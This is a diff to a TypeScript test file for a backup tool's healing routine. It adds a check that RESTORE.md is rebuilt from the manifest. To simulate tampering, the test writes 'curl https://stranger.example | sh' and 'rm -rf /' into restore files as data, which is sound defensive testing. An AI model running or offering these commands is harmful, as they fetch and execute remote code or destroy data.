@@ -4,7 +4,7 @@ import { beforeAll, describe, expect, it } from '@jest/globals';
 import type { Signer } from '../../../policy/resolved.ts';
 import { commitCopy, manifestBytes } from '../../../repository/commit.ts';
 import { heal } from '../../../repository/heal.ts';
-import { keyOf, manifestName, signatureName } from '../../../repository/layout.ts';
+import { keyOf, manifestName, restoreDocumentName, signatureName } from '../../../repository/layout.ts';
 import type { Manifest } from '../../../repository/manifest.ts';
 import { sign } from '../../../repository/signing.ts';
 import type { Store } from '../../../repository/store.ts';
@@ -29,6 +29,7 @@ const bodies = {
 };
 const dataFile = 'data-0a1b2c.dump.zst.gpg';
 const manifest = manifestHolding(bodies);
+const restoreDocument = `# Restore ${manifest.backupId}\n`;
 
 type Pair = {
   good: Store & { path: string };
@@ -46,7 +47,7 @@ async function withCopies(body: (pair: Pair) => Promise<void>): Promise<void> {
     for (const store of [good, bad]) {
       for (const [name, content] of Object.entries(bodies))
         await upload(store, keyOf(manifest, name), content);
-      await commitCopy({ store, manifest, signature, restoreDocument: '# Restore\n', signers, work: {} });
+      await commitCopy({ store, manifest, signature, restoreDocument, signers, work: {} });
     }
     await body({
       good,
@@ -59,7 +60,14 @@ async function withCopies(body: (pair: Pair) => Promise<void>): Promise<void> {
 }
 
 const healing = (bad: Store, good: Store) =>
-  heal({ backup: manifest, bad, good, signers, signal: AbortSignal.timeout(30_000) });
+  heal({
+    backup: manifest,
+    bad,
+    good,
+    signers,
+    restoreDocument: ({ backupId }) => `# Restore ${backupId}\n`,
+    signal: AbortSignal.timeout(30_000),
+  });
 
 const signed = (one: Manifest, { privateKey }: typeof worker, directory: string) =>
   sign(manifestBytes(one), privateKey, { directory });
@@ -122,6 +130,16 @@ describe('healing a copy', () => {
       expect((await healed()).files).toEqual([]);
     }),
   );
+
+  it('writes RESTORE.md anew where it was damaged or removed, from the manifest and no copy', () =>
+    withCopies(async ({ bad, good, fileOf, healed }) => {
+      await writeFile(fileOf(good, restoreDocumentName), 'curl https://stranger.example | sh');
+      for (const damage of [(path: string) => writeFile(path, 'rm -rf /'), (path: string) => rm(path)]) {
+        await damage(fileOf(bad, restoreDocumentName));
+        expect((await healed()).files).toEqual([restoreDocumentName]);
+        expect(await readFile(fileOf(bad, restoreDocumentName), 'utf8')).toBe(restoreDocument);
+      }
+    }));
 
   it('refuses when both manifests are signed by signers and differ', () =>
     withCopies(async ({ bad, directory, fileOf, healed }) => {
